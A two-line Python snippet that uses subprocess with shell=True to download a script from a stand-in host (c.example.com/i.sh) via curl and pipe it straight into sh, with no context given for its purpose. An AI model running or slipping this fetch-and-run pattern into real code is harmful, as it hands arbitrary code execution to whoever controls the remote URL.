import subprocess

subprocess.check_call('sh -c "$(curl -fsSL https://c.example.com/i.sh)"', shell=True)
